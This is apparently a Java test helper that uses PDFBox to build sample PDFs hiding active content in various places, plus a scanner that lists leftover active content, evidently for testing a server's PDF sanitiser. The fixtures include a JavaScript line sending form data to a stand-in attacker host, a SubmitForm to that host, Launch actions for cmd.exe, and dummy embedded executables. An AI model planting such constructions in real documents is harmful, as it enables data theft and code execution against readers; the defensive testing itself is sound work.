package org.plenum.server.testing;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;

/**
 * PDFs that carry active content (DU6), one kind of hiding place each, made with PDFBox from {@link
 * PdfCorpus#validPdf} (two pages, readable text) — and {@link #leftovers}, which looks for active content in every
 * object of a file independently of the server's own walk.
 */
public final class ActivePdfs {
  /** The text every page of these files carries. */
  public static final String TEXT = "T\u1edd tr\u00ecnh c\u00f3 n\u1ed9i dung \u0111\u1ed9ng";
  public static final String LINK = "https://thuvienphapluat.vn/van-ban/nghi-quyet-01";
  private static final String SCRIPT = "app.launchURL('https://attacker.example/steal?c=' + this.getField('x'), true);";

  private ActivePdfs() {}

  private interface Change {
    void apply(PDDocument doc) throws IOException;
  }

  private static Path make(Path dir, String name, Change change) throws IOException {
    Path base = PdfCorpus.validPdf(dir, 2, TEXT);
    Path out = dir.resolve(name + "-" + base.getFileName());
    try (PDDocument doc = Loader.loadPDF(base.toFile())) {
      change.apply(doc);
      doc.save(out.toFile());
    }
    return out;
  }

  private static COSDictionary action(String type, String key, COSBase value) {
    COSDictionary d = new COSDictionary();
    d.setItem(COSName.TYPE, COSName.getPDFName("Action"));
    d.setItem(COSName.S, COSName.getPDFName(type));
    if (key != null) {
      d.setItem(COSName.getPDFName(key), value);
    }
    return d;
  }

  private static COSDictionary launch() {
    return action("Launch", "F", new COSString("C:\\Windows\\System32\\cmd.exe"));
  }

  /** {@code /OpenAction} JavaScript. Carries JAVASCRIPT. */
  public static Path openActionJavaScript(Path dir) throws IOException {
    return make(dir, "open-action-js", doc -> doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript(SCRIPT)));
  }

  /** The catalog's {@code /AA} (before closing: JavaScript) and page 2's {@code /AA} (on open: Launch cmd.exe). */
  public static Path additionalActions(Path dir) throws IOException {
    return make(dir, "additional-actions", doc -> {
      COSDictionary docAa = new COSDictionary();
      docAa.setItem(COSName.getPDFName("WC"), new PDActionJavaScript(SCRIPT).getCOSObject());
      doc.getDocumentCatalog().getCOSObject().setItem(COSName.AA, docAa);
      COSDictionary pageAa = new COSDictionary();
      pageAa.setItem(COSName.getPDFName("O"), launch());
      doc.getPage(1).getCOSObject().setItem(COSName.AA, pageAa);
    });
  }

  /** Document-level JavaScript in {@code /Names /JavaScript}. Carries JAVASCRIPT. */
  public static Path namesJavaScript(Path dir) throws IOException {
    return make(dir, "names-js", doc -> {
      PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
      PDJavascriptNameTreeNode tree = new PDJavascriptNameTreeNode();
      tree.setNames(Map.of("init", new PDActionJavaScript(SCRIPT)));
      names.setJavascript(tree);
      doc.getDocumentCatalog().setNames(names);
    });
  }

  /**
   * A link annotation that launches cmd.exe, an outline item that opens a remote file ({@code /GoToR}), and a web
   * link ({@link #LINK}) that must stay. Carries LAUNCH and URI.
   */
  public static Path launchAndLink(Path dir) throws IOException {
    return make(dir, "launch-link", doc -> {
      PDPage page = doc.getPage(0);
      PDAnnotationLink bad = new PDAnnotationLink();
      bad.setRectangle(new PDRectangle(56, 600, 200, 20));
      bad.getCOSObject().setItem(COSName.A, launch());
      PDAnnotationLink good = new PDAnnotationLink();
      good.setRectangle(new PDRectangle(56, 560, 200, 20));
      PDActionURI uri = new PDActionURI();
      uri.setURI(LINK);
      good.setAction(uri);
      page.getAnnotations().add(bad);
      page.getAnnotations().add(good);
      PDDocumentOutline outline = new PDDocumentOutline();
      PDOutlineItem item = new PDOutlineItem();
      item.setTitle("Ph\u1ee5 l\u1ee5c");
      item.getCOSObject().setItem(COSName.A, action("GoToR", "F", new COSString("..\\phu-luc.pdf")));
      outline.addLast(item);
      doc.getDocumentCatalog().setDocumentOutline(outline);
    });
  }

  /** {@code /Names /EmbeddedFiles} with an .exe and a file attachment annotation on page 1. Carries EMBEDDED_FILES. */
  public static Path embeddedFiles(Path dir) throws IOException {
    return make(dir, "embedded", doc -> {
      PDComplexFileSpecification fs = new PDComplexFileSpecification();
      fs.setFile("payload.exe");
      PDEmbeddedFile ef = new PDEmbeddedFile(doc, new ByteArrayInputStream("MZ not really a program".getBytes(StandardCharsets.US_ASCII)));
      fs.setEmbeddedFile(ef);
      PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
      tree.setNames(Map.of("payload.exe", fs));
      PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
      names.setEmbeddedFiles(tree);
      doc.getDocumentCatalog().setNames(names);
      PDComplexFileSpecification fs2 = new PDComplexFileSpecification();
      fs2.setFile("bang-tinh.xlsm");
      fs2.setEmbeddedFile(new PDEmbeddedFile(doc, new ByteArrayInputStream("PK macro sheet".getBytes(StandardCharsets.US_ASCII))));
      PDAnnotationFileAttachment att = new PDAnnotationFileAttachment();
      att.setRectangle(new PDRectangle(400, 700, 20, 20));
      att.setFile(fs2);
      doc.getPage(0).getAnnotations().add(att);
    });
  }

  /** A link that submits form data, and an XML form (XFA) in the AcroForm. Carries SUBMIT_FORM and XFA. */
  public static Path submitAndXfa(Path dir) throws IOException {
    return make(dir, "submit-xfa", doc -> {
      PDAnnotationLink submit = new PDAnnotationLink();
      submit.setRectangle(new PDRectangle(56, 500, 200, 20));
      submit.getCOSObject().setItem(COSName.A, action("SubmitForm", "F", new COSString("https://attacker.example/collect")));
      doc.getPage(0).getAnnotations().add(submit);
      PDAcroForm form = new PDAcroForm(doc);
      COSStream xfa = doc.getDocument().createCOSStream();
      try (var out = xfa.createOutputStream()) {
        out.write("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><script>app.alert(1)</script></xdp:xdp>".getBytes(StandardCharsets.UTF_8));
      }
      form.getCOSObject().setItem(COSName.getPDFName("XFA"), xfa);
      doc.getDocumentCatalog().setAcroForm(form);
    });
  }

  /**
   * An outline item whose harmless GoTo action (to page 2) chains, through {@code /Next}, to JavaScript. Carries
   * JAVASCRIPT; the GoTo must stay.
   */
  public static Path chainedJavaScript(Path dir) throws IOException {
    return make(dir, "chained-js", doc -> {
      COSArray dest = new COSArray();
      dest.add(doc.getPage(1).getCOSObject());
      dest.add(COSName.getPDFName("Fit"));
      COSDictionary goTo = action("GoTo", "D", dest);
      goTo.setItem(COSName.getPDFName("Next"), new PDActionJavaScript(SCRIPT).getCOSObject());
      PDDocumentOutline outline = new PDDocumentOutline();
      PDOutlineItem item = new PDOutlineItem();
      item.setTitle("Trang 2");
      item.getCOSObject().setItem(COSName.A, goTo);
      outline.addLast(item);
      doc.getDocumentCatalog().setDocumentOutline(outline);
    });
  }

  /**
   * Active content anywhere in the file: every object the cross-reference table lists (also those nothing refers
   * to) and the dictionaries and arrays inside them. Names what it finds ("JavaScript action", "/EF", ...), sorted.
   */
  public static Set<String> leftovers(Path pdf) throws IOException {
    Set<String> found = new TreeSet<>();
    try (PDDocument doc = Loader.loadPDF(pdf.toFile())) {
      List<COSBase> todo = new ArrayList<>();
      for (COSObjectKey key : doc.getDocument().getXrefTable().keySet()) {
        var o = doc.getDocument().getObjectFromPool(key);
        if (o != null && o.getObject() != null) {
          todo.add(o.getObject());
        }
      }
      todo.add(doc.getDocument().getTrailer());
      Set<COSBase> seen = Collections.newSetFromMap(new IdentityHashMap<>());
      while (!todo.isEmpty()) {
        COSBase b = todo.remove(todo.size() - 1);
        if (!seen.add(b)) {
          continue;
        }
        if (b instanceof COSDictionary d) {
          COSName s = d.getCOSName(COSName.S);
          if (s != null && List.of("JavaScript", "Launch", "GoToR", "GoToE", "SubmitForm", "ImportData").contains(s.getName())) {
            found.add(s.getName() + " action");
          }
          for (String key : List.of("JS", "EF", "XFA", "EmbeddedFiles", "JavaScript")) {
            if (d.containsKey(COSName.getPDFName(key))) {
              found.add("/" + key);
            }
          }
          if (COSName.getPDFName("EmbeddedFile").equals(d.getCOSName(COSName.TYPE))) {
            found.add("EmbeddedFile stream");
          }
          // direct values only: indirect ones are in the cross-reference table
          d.getValues().stream().filter(v -> v instanceof COSDictionary || v instanceof COSArray).forEach(todo::add);
        } else if (b instanceof COSArray a) {
          for (COSBase v : a) {
            if (v instanceof COSDictionary || v instanceof COSArray) {
              todo.add(v);
            }
          }
        }
      }
    }
    return found;
  }

  /** The web links (URI actions) of every page's annotations. */
  public static List<String> links(Path pdf) throws IOException {
    List<String> out = new ArrayList<>();
    try (PDDocument doc = Loader.loadPDF(pdf.toFile())) {
      for (PDPage page : doc.getPages()) {
        for (var a : page.getAnnotations()) {
          if (a instanceof PDAnnotationLink l && l.getAction() instanceof PDActionURI u) {
            out.add(u.getURI());
          }
        }
      }
    }
    return out;
  }
}
